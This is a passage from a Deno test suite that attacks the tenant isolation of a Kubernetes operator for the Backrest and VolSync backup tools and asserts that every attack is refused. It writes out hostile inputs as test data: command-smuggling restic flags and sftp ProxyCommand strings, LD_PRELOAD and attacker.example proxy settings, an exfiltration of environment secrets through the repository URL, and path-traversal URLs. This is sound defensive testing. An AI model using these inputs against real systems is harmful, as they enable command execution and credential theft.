/**
 * Tenant isolation, tried as an attacker would. A tenant may create and edit Bindings, VolSync objects and
 * Secrets in their own namespace and nothing else; the shared Backrest holds every namespace's
 * credentials. Each test makes one attack against the real apiserver (our CRDs), the real Backrest
 * v1.14.1 with canaries in its own environment, real restic and restic's rest-server, and checks it goes
 * nowhere: no program runs, nothing of Backrest's environment or its error text reaches what the tenant can
 * read, no other namespace's repo is taken or removed. Each test runs its own operator, confined to the
 * namespaces it creates, so its OperatorConfig and repo claims are its own.
 */
import assert from "node:assert/strict";
import {
  type BackrestInstance,
  backrestRepo,
  createResticRepo,
  restEnv,
  startBackrest,
  waitForRepo,
} from "./harness/backrest.ts";
import {
  binding,
  BINDINGS,
  cluster,
  CONFIG_NAME,
  create,
  deleteBinding,
  patchBinding,
  putOperatorConfig,
  readyCondition,
  replicationSource,
  type RunningOperator,
  secret,
  startOperator,
  waitForReason,
} from "./harness/operator.ts";
import { startInterceptor, startRecorder } from "./harness/cloud.ts";
import { peer } from "./harness/peers.ts";
import { tempDir, waitUntil } from "./harness/process.ts";
import { silentListener } from "./harness/silent_listener.ts";

const ENV_CANARY = `envcanary${crypto.randomUUID().replaceAll("-", "")}`;

let shared: Promise<BackrestInstance> | undefined;

/** One Backrest for the file, with a canary in its environment (restic inherits it). */
function sharedBackrest(): Promise<BackrestInstance> {
  shared ??= startBackrest({ env: { BVO_CANARY_ENV: ENV_CANARY } });
  return shared;
}

/** POSTs a Binding as the tenant would; returns the apiserver's status and message. */
async function tryCreate(
  ns: string,
  obj: Record<string, unknown>,
): Promise<{ status: number; text: string }> {
  const cp = await cluster();
  const res = await cp.api("POST", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings`, obj);
  return { status: res.status, text: await res.text() };
}

async function operatorConfig(ns: string, spec: Record<string, unknown>): Promise<void> {
  await putOperatorConfig(ns, spec);
}

/** An operator confined to `namespaces`, with its OperatorConfig (and repo claims) in `configNs`. */
function operatorFor(configNs: string, ...namespaces: string[]): Promise<RunningOperator> {
  return startOperator({ namespaces, configNamespace: configNs, backrestTimeoutMs: 20_000 });
}

/** Everything a tenant can read about their namespace: Binding statuses and Events. */
async function tenantView(ns: string): Promise<string> {
  const cp = await cluster();
  const bindings = await cp.json("GET", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings`);
  const events = await cp.json("GET", `/api/v1/namespaces/${ns}/events`);
  return JSON.stringify([bindings, events]);
}

/**
 * Runs `fn` while the CRD `plural` has its rules (CEL, patterns, enums) below `path` removed: how objects
 * written under an older CRD (or before a tightened rule) end up stored, so the reconciler's own refusal can
 * be tried. The shipped CRD is back in force afterwards.
 */
async function withRelaxedCrd(plural: string, path: string[], fn: () => Promise<void>): Promise<void> {
  const cp = await cluster();
  const crdPath =
    `/apis/apiextensions.k8s.io/v1/customresourcedefinitions/${plural}.backrest.garethgeorge.com`;
  const original = await cp.json("GET", crdPath) as Record<string, unknown>;
  const relaxed = structuredClone(original);
  // deno-lint-ignore no-explicit-any -- walking a CRD schema by a test-chosen path
  let node: any = (relaxed as any).spec.versions[0].schema.openAPIV3Schema;
  for (const key of path) node = node[key];
  const strip = (n: unknown): void => {
    if (typeof n !== "object" || n === null) return;
    const o = n as Record<string, unknown>;
    delete o["x-kubernetes-validations"];
    delete o.pattern;
    delete o.enum;
    for (const v of Object.values(o)) strip(v);
  };
  strip(node);
  await cp.json("PUT", crdPath, relaxed);
  try {
    await fn();
  } finally {
    const now = await cp.json("GET", crdPath) as { metadata: { resourceVersion: string } };
    const back = structuredClone(original) as { metadata: { resourceVersion: string } };
    back.metadata.resourceVersion = now.metadata.resourceVersion;
    await cp.json("PUT", crdPath, back);
  }
}

/** Creates `obj` in `ns`, retrying while a relaxed schema is still on its way to the apiserver's handler. */
async function createStored(ns: string, obj: Record<string, unknown>, plural = "backrestvolsyncbindings") {
  const cp = await cluster();
  await waitUntil(`stored ${plural}`, async () => {
    const res = await cp.api("POST", `${BINDINGS}/namespaces/${ns}/${plural}`, obj);
    await res.body?.cancel();
    return res.status === 201;
  }, { timeoutMs: 20_000, intervalMs: 200 });
}

Deno.test("tenant: a restic flag that would run a program in Backrest is refused before any Backrest call, and never runs", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("flags");
  const marker = `${await tempDir("marker")}/ran`;
  const repo = await createResticRepo();
  await create(
    ns,
    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
    replicationSource("src", "s"),
  );
  const hostile = [
    `--password-command="sh -c 'touch ${marker}; echo ${repo.password}'"`,
    `--password-command=sh`,
    `-o sftp.command=sh -c 'touch ${marker}'`,
    `-o sftp.args=-oProxyCommand=touch ${marker}`,
    `-o rclone.program=/bin/sh`,
    `--option=rclone.args=serve`,
    `--cacert=/etc/shadow`,
    `--repo=/var/lib/backrest`,
    `--limit-upload=1 --password-command=sh`,
    `--limit-upload=\${BVO_CANARY_ENV}`,
  ];
  // At admission: the apiserver refuses each, naming it.
  for (const [i, flag] of hostile.entries()) {
    const r = await tryCreate(
      ns,
      binding(`admit-${i}`, {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `flags-${ns}-${i}`, extraFlags: [flag] },
      }),
    );
    assert.equal(r.status, 422, `${flag}: ${r.text}`);
    assert.match(r.text, /is not an allowed restic flag/, flag);
  }
  assert.equal(
    (await tryCreate(
      ns,
      binding("pair", {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `flags-${ns}-pair`, extraFlags: ["-o", `sftp.command=touch ${marker}`] },
      }),
    )).status,
    422,
    "the two-entry -o form is checked too",
  );

  // Stored before the rule existed (an older CRD): the reconciler refuses them itself.
  await withRelaxedCrd("backrestvolsyncbindings", ["properties", "spec", "properties", "repo"], async () => {
    await createStored(
      ns,
      binding("stored", {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `flags-${ns}-stored`, extraFlags: [hostile[0]!], autoInitialize: true },
      }),
    );
    await createStored(
      ns,
      binding("stored-pair", {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `flags-${ns}-pair2`, extraFlags: ["-o", `sftp.command=touch ${marker}`] },
      }),
    );
  });
  const op = await operatorFor(cfg, ns);
  try {
    const c = await waitForReason(cp, ns, "stored", "InvalidSpec");
    assert.match(c.message, /--password-command/);
    assert.match(
      (await waitForReason(cp, ns, "stored-pair", "InvalidSpec")).message,
      /-o must be followed by/,
    );
    await create(
      ns,
      binding("fine", {
        url: backrest.url,
        source: "src",
        repo: {
          idOverride: `flags-${ns}-fine`,
          extraFlags: ["--limit-upload 100", "-o", "rest.connections=2"],
        },
      }),
    );
    await waitForReason(cp, ns, "fine", "Applied", 60_000);
    assert.deepEqual((await backrestRepo(backrest, `flags-${ns}-fine`))?.flags, [
      "--limit-upload=100",
      "--option=rest.connections=2",
    ]);
    assert.equal(await backrestRepo(backrest, `flags-${ns}-stored`), undefined, "never sent to Backrest");
    assert.equal(await backrestRepo(backrest, `flags-${ns}-pair2`), undefined, "never sent to Backrest");
    assert.ok(!op.logs.some((l) => l.includes(`flags-${ns}-stored`) && l.includes("applied")));
    await assert.rejects(Deno.stat(marker), "the command never ran");
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: nothing Backrest would expand from its environment is sent, and Backrest's own text stays out of status and Events", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("expand");
  const listener = startRecorder(404); // a host nobody should hear from
  const repo = await createResticRepo();
  const restic = await peer("restic");
  const op = await operatorFor(cfg, ns);
  try {
    const cases: [string, Record<string, string>, string][] = [
      // restic echoes a broken URL with the expanded value in its error.
      [
        "bracket",
        { RESTIC_REPOSITORY: "rest:http://[${BVO_CANARY_ENV}", RESTIC_PASSWORD: "pw-123456" },
        "RESTIC_REPOSITORY",
      ],
      // ...or sends it off to a host of the tenant's choosing.
      [
        "exfil",
        { RESTIC_REPOSITORY: `rest:${listener.url}/\${BVO_CANARY_ENV}/`, RESTIC_PASSWORD: "pw-123456" },
        "RESTIC_REPOSITORY",
      ],
      [
        "env",
        {
          RESTIC_REPOSITORY: repo.uri,
          RESTIC_PASSWORD: repo.password,
          RESTIC_REST_USERNAME: "${BVO_CANARY_ENV}",
        },
        "RESTIC_REST_USERNAME",
      ],
    ];
    for (const [name, data] of cases) {
      await create(
        ns,
        secret(`s-${name}`, data),
        replicationSource(name, `s-${name}`),
        binding(name, {
          url: backrest.url,
          source: name,
          repo: { idOverride: `exp-${ns}-${name}`, autoInitialize: true },
        }),
      );
    }
    // A failure inside Backrest: a wrong password. Backrest's text names its own restic command line
    // (BACKREST_RESTIC_COMMAND, from its environment).
    await create(
      ns,
      secret("s-wrong", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: "not-the-password-1" }),
      replicationSource("wrong", "s-wrong"),
      binding("wrong", { url: backrest.url, source: "wrong", repo: { idOverride: `exp-${ns}-wrong` } }),
    );
    for (const [name, , key] of cases) {
      const c = await waitForReason(cp, ns, name, "RepositorySecretInvalid");
      assert.match(c.message, new RegExp(`${key} contains \\$\\{\\.\\.\\.\\}`), name);
      assert.equal(await backrestRepo(backrest, `exp-${ns}-${name}`), undefined, `${name} never sent`);
    }
    const wrong = await waitForReason(cp, ns, "wrong", "BackrestAddRepoFailed", 60_000);
    assert.match(wrong.message, /restic could not open the repository with this password/);
    // Backrest did say more: the operator's debug log has it (scrubbed), the tenant does not.
    assert.ok(op.logs.some((l) => l.includes('"backrestText"')), "Backrest's text is logged at debug level");
    const view = await tenantView(ns);
    for (const needle of [ENV_CANARY, restic.path, backrest.dir, "Fatal", "failed to init repo"]) {
      assert.ok(!view.includes(needle), `the tenant reads ${needle}`);
    }
    assert.deepEqual(listener.requests, [], "nothing reached the tenant's listener");
  } finally {
    await op.stop();
    await listener.close();
  }
});

Deno.test("tenant: only the keys VolSync's mover passes reach restic; process-altering keys never do", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("envkeys");
  const repo = await createResticRepo();
  const hostile = {
    LD_PRELOAD: "/tmp/evil.so",
    LD_LIBRARY_PATH: "/tmp",
    PATH: "/tmp/evil-bin",
    HOME: "/tmp/evil-home",
    XDG_CACHE_HOME: "/tmp/evil-cache",
    HTTPS_PROXY: "http://attacker.example:3128",
    RCLONE_CONFIG_X_TYPE: "local",
    RESTIC_PASSWORD_COMMAND: "sh -c 'echo pw'",
    AWS_PROFILE: "backrest-admin",
    AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/azure/tokens/azure-identity-token",
  };
  await create(
    ns,
    secret("s", {
      RESTIC_REPOSITORY: repo.uri,
      RESTIC_PASSWORD: repo.password,
      RESTIC_PACK_SIZE: "16",
      ...hostile,
    }),
    replicationSource("src", "s"),
    binding("all", { url: backrest.url, source: "src", repo: { idOverride: `env-${ns}-all` } }),
    binding("allow", {
      url: backrest.url,
      source: "src",
      repo: { idOverride: `env-${ns}-allow`, envAllowlist: ["LD_PRELOAD", "PATH", "RESTIC_PACK_SIZE"] },
    }),
  );
  const op = await operatorFor(cfg, ns);
  try {
    const c = await waitForReason(cp, ns, "all", "Applied", 60_000);
    for (const key of Object.keys(hostile)) assert.ok(c.message.includes(key), `${key} named as not passed`);
    await waitForReason(cp, ns, "allow", "Applied", 60_000);
    assert.deepEqual((await backrestRepo(backrest, `env-${ns}-all`))?.env, restEnv("RESTIC_PACK_SIZE=16"));
    assert.deepEqual(
      (await backrestRepo(backrest, `env-${ns}-allow`))?.env,
      restEnv("RESTIC_PACK_SIZE=16"),
      "envAllowlist narrows, it cannot widen",
    );
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: a repository on Backrest's own disk, or through ssh or rclone, is refused unless the OperatorConfig allows it", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("backends");
  const marker = `${await tempDir("marker")}/ran`;
  const local = `${await tempDir("local")}/repo`;
  const cases: Record<string, string> = {
    "backrest-data": `${backrest.dir}/data/stolen`,
    "local-prefix": `local:${local}`,
    "sftp-proxy": `sftp:-oProxyCommand=touch ${marker}:/x`,
    "rclone": "rclone::local:/etc",
  };
  for (const [name, uri] of Object.entries(cases)) {
    await create(
      ns,
      secret(`s-${name}`, { RESTIC_REPOSITORY: uri, RESTIC_PASSWORD: "pw-123456" }),
      replicationSource(name, `s-${name}`),
      binding(name, {
        url: backrest.url,
        source: name,
        repo: { idOverride: `be-${ns}-${name}`, autoInitialize: true },
      }),
    );
  }
  const op = await operatorFor(cfg, ns);
  try {
    for (const name of Object.keys(cases)) {
      const c = await waitForReason(cp, ns, name, "RepositoryBackendNotAllowed");
      assert.match(c.message, /repositoryPolicy\.allowedBackends/);
      assert.equal(await backrestRepo(backrest, `be-${ns}-${name}`), undefined);
    }
    await assert.rejects(Deno.stat(`${backrest.dir}/data/stolen`), "nothing created on Backrest's disk");
    // The admin allows local paths and sftp: a local repo is registered; an ssh option in the host still is not.
    await operatorConfig(cfg, { repositoryPolicy: { allowedBackends: ["rest", "local", "sftp"] } });
    await waitForReason(cp, ns, "local-prefix", "Applied", 60_000);
    const sftp = await waitForReason(cp, ns, "sftp-proxy", "RepositorySecretInvalid");
    assert.match(sftp.message, /must not start with '-'/);
    assert.equal((await readyCondition(cp, ns, "rclone"))?.reason, "RepositoryBackendNotAllowed");
    await assert.rejects(Deno.stat(marker), "ssh never ran the ProxyCommand");
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: an applied repo id stays its Binding's: no later, older or edited Binding takes it", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const attacker = await cp.namespace("attacker");
  const victim = await cp.namespace("victim");
  const [theirs, ours] = [await createResticRepo(), await createResticRepo()];
  const op = await operatorFor(cfg, attacker, victim);
  try {
    // The attacker's Binding is the oldest of all.
    await create(
      attacker,
      secret("s", { RESTIC_REPOSITORY: theirs.uri, RESTIC_PASSWORD: theirs.password }),
      replicationSource("db", "s"),
      binding("old", { url: backrest.url, source: "db", repo: { idOverride: `own-${attacker}` } }),
    );
    await waitForReason(cp, attacker, "old", "Applied", 60_000);
    // An id that does not spell the victim's namespace, so what the attacker can read is judged fairly.
    const teamId = `team-db-${crypto.randomUUID().slice(0, 8)}`;
    await create(
      victim,
      secret("s", { RESTIC_REPOSITORY: ours.uri, RESTIC_PASSWORD: ours.password }),
      replicationSource("db", "s"),
      binding("default", { url: backrest.url, source: "db" }),
      binding("named", { url: backrest.url, source: "db", repo: { idOverride: teamId } }),
    );
    await waitForReason(cp, victim, "default", "Applied", 60_000);
    await waitForReason(cp, victim, "named", "Applied", 60_000);

    // Edited to the victim's id: refused, whatever the age.
    await patchBinding(attacker, "old", { spec: { repo: { idOverride: teamId } } });
    const conflict = await waitForReason(cp, attacker, "old", "RepoIdConflict");
    assert.match(conflict.message, /^another Binding holds repo id/);
    // Nothing in the tenant's view names the other namespace; the operator's log does, for the admin.
    assert.ok(!(await tenantView(attacker)).includes(victim), "the attacker learns nothing of the victim");
    assert.ok(
      op.logs.some((l) => l.includes("another namespace") && l.includes(`"holder":"${victim}/named"`)),
      "the admin's log names the holder",
    );
    // Through another spelling of the same Backrest: the claim is the id's, whatever the URL.
    await create(
      attacker,
      binding("alias", {
        url: backrest.url.replace("http://", "HTTP://") + "/",
        source: "db",
        repo: { idOverride: teamId },
      }),
    );
    await waitForReason(cp, attacker, "alias", "RepoIdConflict");
    // The victim's default id: another namespace's by name.
    await patchBinding(attacker, "old", {
      spec: { repo: { idOverride: `volsync-${victim}-replicationsource-db` } },
    });
    const squat = await waitForReason(cp, attacker, "old", "InvalidSpec");
    assert.match(squat.message, /another namespace's default repo id/);
    // Spellings that parsers disagree on never get that far.
    for (
      const url of [`${backrest.url}/%2e`, `${backrest.url}/?x`, `${backrest.url}#x`, `${backrest.url}/..;/x`]
    ) {
      const r = await tryCreate(
        attacker,
        binding("bad-url", { url, source: "db", repo: { idOverride: teamId } }),
      );
      assert.equal(r.status, 422, url);
    }

    assert.equal((await backrestRepo(backrest, teamId))?.uri, ours.uri, "the victim's repo is untouched");
    assert.equal(
      (await backrestRepo(backrest, `volsync-${victim}-replicationsource-db`))?.uri,
      ours.uri,
      "the victim's default repo is untouched",
    );
    // Where ownership lives: the operator's namespace, not the tenant's objects.
    const leases = await cp.json("GET", `/apis/coordination.k8s.io/v1/namespaces/${cfg}/leases`) as {
      items: { spec: { holderIdentity: string }; metadata: { annotations: Record<string, string> } }[];
    };
    const team = leases.items.find((l) =>
      l.metadata.annotations["backrest.garethgeorge.com/repo-id"] === teamId
    );
    assert.equal(team?.spec.holderIdentity, `${victim}/named`);
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: a repo made in Backrest's UI is left alone unless the Binding adopts it and the OperatorConfig allows adoption", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("adopt");
  const [admins, tenants] = [await createResticRepo(), await createResticRepo()];
  const id = `ui-made-${ns}`;
  // The admin's repo, made in the UI (the same AddRepo the UI sends).
  await backrest.rpc("AddRepo", { repo: { id, uri: admins.uri, password: admins.password } });
  await create(
    ns,
    secret("s", { RESTIC_REPOSITORY: tenants.uri, RESTIC_PASSWORD: tenants.password }),
    replicationSource("src", "s"),
    binding("take", { url: backrest.url, source: "src", repo: { idOverride: id } }),
  );
  const op = await operatorFor(cfg, ns);
  try {
    const c = await waitForReason(cp, ns, "take", "RepoExistsInBackrest", 60_000);
    assert.match(c.message, /no Binding applied it/);
    await patchBinding(ns, "take", { spec: { repo: { idOverride: id, adopt: true } } });
    await waitUntil("the adopt edit is seen", async () => {
      const b = await cp.json("GET", `${BINDINGS}/namespaces/${ns}/backrestvolsyncbindings/take`) as {
        status?: { observedGeneration?: number };
      };
      return b.status?.observedGeneration === 2;
    }, { timeoutMs: 30_000 });
    assert.equal((await readyCondition(cp, ns, "take"))?.reason, "RepoExistsInBackrest");
    assert.equal((await backrestRepo(backrest, id))?.uri, admins.uri, "the admin's repo is untouched");

    await operatorConfig(cfg, { repositoryPolicy: { allowAdoption: true } });
    await waitForReason(cp, ns, "take", "Applied", 60_000);
    assert.equal((await backrestRepo(backrest, id))?.uri, tenants.uri, "adopted with the admin's consent");
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: RemoveRepo only for an id the Binding holds now, on the URL it applied it to", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("remove");
  const other = await cp.namespace("other");
  const repo = await createResticRepo();
  const x = `del-x-${ns}`;
  const op = await operatorFor(cfg, ns, other);
  try {
    await create(
      ns,
      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
      replicationSource("src", "s"),
      binding("a", { url: backrest.url, source: "src", deletionPolicy: "Remove", repo: { idOverride: x } }),
    );
    await waitForReason(cp, ns, "a", "Applied", 60_000);

    // A Binding whose status says it applied x (anyone with rights on bindings/status can write that).
    await create(
      other,
      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
      replicationSource("src", "s"),
      binding("forged", {
        url: backrest.url,
        source: "src",
        deletionPolicy: "Remove",
        repo: { idOverride: `forged-${other}` },
      }),
    );
    await waitForReason(cp, other, "forged", "Applied", 60_000);
    await patchBinding(other, "forged", { status: { repoId: x, backrestURL: backrest.url } }, "status");
    await deleteBinding(other, "forged");
    assert.ok(await backrestRepo(backrest, x), "a forged status removes nothing");
    assert.equal(await backrestRepo(backrest, `forged-${other}`), undefined, "its own repo went");

    // a moves to another id and stops before applying it (its Secret is missing): it still holds x.
    await create(ns, replicationSource("nosecret", "missing"));
    await patchBinding(ns, "a", {
      spec: { source: { kind: "ReplicationSource", name: "nosecret" }, repo: { idOverride: `del-y-${ns}` } },
    });
    await waitForReason(cp, ns, "a", "RepositorySecretNotFound");
    await create(ns, binding("b", { url: backrest.url, source: "src", repo: { idOverride: x } }));
    await waitForReason(cp, ns, "b", "RepoIdConflict");
    // Deleted, a removes what it holds, and x is free for b.
    await deleteBinding(ns, "a");
    await waitForReason(cp, ns, "b", "Applied", 60_000);
    assert.ok(await backrestRepo(backrest, x), "b registered x again");
  } finally {
    await op.stop();
  }
});

Deno.test("tenant: no Binding is reconciled before the OperatorConfig is read; one invalid at start halts everything", async (t) => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const repo = await createResticRepo();
  const listener = startRecorder(404); // a host nobody should hear from
  const scenario = async (
    name: string,
    config: (cfg: string) => Promise<void>,
    reason: string,
  ) => {
    const cfg = await cp.namespace("cfg");
    const ns = await cp.namespace(name);
    await config(cfg);
    await create(
      ns,
      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
      replicationSource("src", "s"),
      binding("b", { url: listener.url, source: "src", repo: { idOverride: `start-${ns}` } }),
    );
    const before = listener.requests.length;
    const op = await operatorFor(cfg, ns);
    try {
      const c = await waitForReason(cp, ns, "b", reason);
      await new Promise((r) => setTimeout(r, 1000));
      assert.equal(listener.requests.length, before, `${name}: no request reached the Backrest URL`);
      return { cfg, ns, op, message: c.message };
    } catch (e) {
      await op.stop();
      throw e;
    }
  };
  try {
    await t.step("already paused", async () => {
      const s = await scenario("paused", (cfg) => operatorConfig(cfg, { paused: true }), "Paused");
      await s.op.stop();
    });
    await t.step("already allowlisted", async () => {
      const s = await scenario(
        "allow",
        (cfg) => operatorConfig(cfg, { backrestURLAllowlist: [backrest.url] }),
        "BackrestURLNotAllowed",
      );
      await s.op.stop();
    });
    await t.step("already invalid: fail closed, then fixed", async () => {
      const s = await scenario("invalid", async (cfg) => {
        await withRelaxedCrd("backrestvolsyncoperatorconfigs", ["properties", "spec"], async () => {
          await createStored(cfg, {
            apiVersion: "backrest.garethgeorge.com/v1alpha1",
            kind: "BackrestVolSyncOperatorConfig",
            metadata: { name: CONFIG_NAME },
            // Stored under an older CRD: a policy this one does not know. Were the defaults put in force
            // instead (an empty allowlist), the Binding would be sent to its URL.
            spec: { backrestURLAllowlist: [backrest.url], bindingGeneration: { policy: "Sometimes" } },
          }, "backrestvolsyncoperatorconfigs");
        });
      }, "OperatorConfigInvalid");
      try {
        assert.match(s.message, /is invalid .*bindingGeneration\.policy/);
        let last: unknown;
        await waitUntil("the config reports itself invalid", async () => {
          const c = await cp.json(
            "GET",
            `${BINDINGS}/namespaces/${s.cfg}/backrestvolsyncoperatorconfigs/${CONFIG_NAME}`,
          ) as { status?: { conditions?: { reason: string; message: string }[] } };
          last = c.status;
          return c.status?.conditions?.[0]?.reason === "InvalidSpec" &&
            /nothing is done until it is fixed/.test(c.status.conditions[0].message);
        }, { timeoutMs: 20_000 }).catch((e) => {
          throw new Error(
            `${e.message}; status ${JSON.stringify(last)}; log: ${s.op.logs.slice(-8).join("\n")}`,
          );
        });
        await operatorConfig(s.cfg, { bindingGeneration: { policy: "Disabled" } });
        // Valid now (no allowlist): the Binding is tried against its URL.
        await waitUntil("requests reach the URL", () => Promise.resolve(listener.requests.length > 0), {
          timeoutMs: 30_000,
        });
      } finally {
        await s.op.stop();
      }
    });
  } finally {
    await listener.close();
  }
});

Deno.test("tenant: drift repair lists Backrest with credentials that worked, whatever another Binding's authRef says", async () => {
  const user = { username: "admin", password: `pw-${crypto.randomUUID()}` };
  const backrest = await startBackrest({ auth: user });
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("drift");
  const repo = await createResticRepo();
  const id = `drift-${ns}`;
  await operatorConfig(cfg, { resyncPeriod: "2s" });
  await create(
    ns,
    secret("auth", { username: user.username, password: user.password }),
    secret("bogus", { username: "tenant", password: "not-a-backrest-password" }),
    secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
    replicationSource("src", "s"),
    binding("good", { url: backrest.url, source: "src", authRef: "auth", repo: { idOverride: id } }),
  );
  const op = await operatorFor(cfg, ns);
  try {
    await waitForReason(cp, ns, "good", "Applied", 60_000);
    // A tenant's Binding on the same Backrest with credentials Backrest refuses, retried again and again.
    await create(
      ns,
      binding("bogus", {
        url: backrest.url,
        source: "src",
        authRef: "bogus",
        repo: { idOverride: `bogus-${ns}` },
      }),
    );
    await waitForReason(cp, ns, "bogus", "BackrestAuthInvalid");
    // Someone deletes the repo in Backrest's UI.
    await backrest.rpc("RemoveRepo", { repoId: id });
    await waitForRepo(backrest, id, { what: "drift repair put it back", intervalMs: 250 });
  } finally {
    await op.stop();
    await backrest.stop();
  }
});

Deno.test("tenant: a repository on storage that never answers slows only its own Binding, never the shared Backrest", async () => {
  const backrest = await sharedBackrest();
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const slow = await cp.namespace("slowstore");
  const other = await cp.namespace("neighbour");
  // Storage that accepts connections and never answers: restic inside Backrest waits on it.
  const storage = silentListener();
  const op = await startOperator({
    namespaces: [slow, other],
    configNamespace: cfg,
    backrestTimeoutMs: 3000,
  });
  try {
    await create(
      slow,
      secret("s", {
        RESTIC_REPOSITORY: `rest:http://127.0.0.1:${storage.port}/repo`,
        RESTIC_PASSWORD: "pw-123456",
      }),
      replicationSource("src", "s"),
      binding("b", {
        url: backrest.url,
        source: "src",
        repo: { idOverride: `slow-${slow}`, autoInitialize: true },
      }),
    );
    const stuck = await waitForReason(cp, slow, "b", "BackrestUnreachable", 30_000);
    assert.match(stuck.message, /deadline/);
    // Backrest itself answers: another namespace's Binding on it applies as usual.
    const repo = await createResticRepo();
    await create(
      other,
      secret("s", { RESTIC_REPOSITORY: repo.uri, RESTIC_PASSWORD: repo.password }),
      replicationSource("src", "s"),
      binding("b", { url: backrest.url, source: "src", repo: { idOverride: `fine-${other}` } }),
    );
    await waitForReason(cp, other, "b", "Applied", 60_000);
  } finally {
    await op.stop();
    await storage.close();
  }
});

/** A Backrest with its own credentials planted wherever restic would look: its environment, HOME, identity endpoints. */
async function plantedBackrest(canary: string) {
  const identity = startRecorder(); // Backrest's own STS, ECS, managed-identity and Keystone endpoints
  const cloud = await startInterceptor([
    "*.blob.core.windows.net",
    `*.blob.${canary}.example`,
    "api.backblazeb2.com",
    "*.backblazeb2.com",
    "storage.googleapis.com",
    "oauth2.googleapis.com",
  ]);
  const home = await tempDir("backrest-home");
  await Deno.mkdir(`${home}/.aws`);
  await Deno.writeTextFile(
    `${home}/.aws/credentials`,
    `[default]\naws_access_key_id = BR-FILE-AKID-${canary}\naws_secret_access_key = BR-FILE-SECRET-${canary}\n`,
  );
  await Deno.mkdir(`${home}/.mc`);
  await Deno.writeTextFile(
    `${home}/.mc/config.json`,
    JSON.stringify({
      version: "10",
      aliases: { s3: { url: "https://s3.amazonaws.com", accessKey: `BR-MC-${canary}`, secretKey: canary } },
    }),
  );
  const backrest = await startBackrest({
    env: {
      HOME: home,
      HTTPS_PROXY: cloud.proxyUrl,
      SSL_CERT_FILE: cloud.caFile,
      AWS_ACCESS_KEY_ID: `BR-AKID-${canary}`,
      AWS_SECRET_ACCESS_KEY: `BR-SECRET-${canary}`,
      AWS_SESSION_TOKEN: `BR-TOKEN-${canary}`,
      AWS_ACCESS_KEY: `BR-LEGACY-AKID-${canary}`,
      AWS_SECRET_KEY: `BR-LEGACY-SECRET-${canary}`,
      MINIO_ROOT_USER: `BR-MINIO-${canary}`,
      MINIO_ROOT_PASSWORD: `BR-MINIO-PW-${canary}`,
      RESTIC_AWS_ASSUME_ROLE_ARN: `arn:aws:iam::000000000000:role/BR-ROLE-${canary}`,
      RESTIC_AWS_ASSUME_ROLE_STS_ENDPOINT: `${identity.url}/sts`,
      AWS_CONTAINER_CREDENTIALS_FULL_URI: `${identity.url}/ecs`,
      AWS_CONTAINER_AUTHORIZATION_TOKEN: `BR-ECS-${canary}`,
      AZURE_ACCOUNT_NAME: "backrestacct",
      AZURE_ACCOUNT_KEY: btoa(`BR-AZKEY-${canary}`),
      AZURE_ENDPOINT_SUFFIX: `${canary}.example`,
      IDENTITY_ENDPOINT: `${identity.url}/msi`,
      IDENTITY_HEADER: `BR-MSI-${canary}`,
      AZURE_CLIENT_ID: `BR-AZCLIENT-${canary}`,
      AZURE_TENANT_ID: `BR-AZTENANT-${canary}`,
      AZURE_CLIENT_SECRET: `BR-AZSECRET-${canary}`,
      OS_AUTH_URL: `${identity.url}/v3`,
      OS_USERNAME: `BR-OSUSER-${canary}`,
      OS_PASSWORD: `BR-OSPASS-${canary}`,
      OS_STORAGE_URL: `${identity.url}/swift`,
      OS_AUTH_TOKEN: `BR-OSTOKEN-${canary}`,
      ST_USER: `BR-STUSER-${canary}`,
      ST_KEY: `BR-STKEY-${canary}`,
      RESTIC_REST_USERNAME: `BR-RESTUSER-${canary}`,
      RESTIC_REST_PASSWORD: `BR-RESTPASS-${canary}`,
      B2_ACCOUNT_ID: `BR-B2ID-${canary}`,
      B2_ACCOUNT_KEY: `BR-B2KEY-${canary}`,
    },
  });
  return {
    backrest,
    identity,
    cloud,
    async stop() {
      await backrest.stop();
      await identity.close();
      await cloud.close();
    },
  };
}

Deno.test("tenant: Backrest's own credentials (environment, HOME, identity endpoints) never answer for a tenant's repository", async (t) => {
  const canary = `brcanary${crypto.randomUUID().replaceAll("-", "").slice(0, 16)}`;
  const planted = await plantedBackrest(canary);
  const cp = await cluster();
  const cfg = await cp.namespace("cfg");
  const ns = await cp.namespace("owncreds");
  // The tenant's own endpoints (loopback stands in for hosts the tenant controls).
  const tenantS3 = startRecorder();
  const tenantRest = startRecorder();
  const tenantSwift = startRecorder();
  const url = planted.backrest.url;
  const repo = (name: string, data: Record<string, string>) => [
